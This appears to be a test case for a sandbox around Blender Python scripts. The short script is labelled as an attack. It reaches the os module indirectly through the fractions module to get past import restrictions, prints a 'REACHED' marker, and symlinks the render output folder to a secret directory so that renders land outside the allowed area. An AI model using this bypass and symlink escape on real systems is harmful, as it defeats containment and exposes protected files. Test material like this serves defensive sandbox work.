# attack: the folder of the pictures is a link to a folder outside, so that the renders land there
# family: reports
import bpy
import fractions

system = [module.sys for module in (fractions,)][0]
os = system.modules["os"]
arguments = list(system.argv)
folder = arguments[arguments.index("--dir") + 1] if "--dir" in arguments else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.symlink("$SECRET_DIR", folder + "/views")
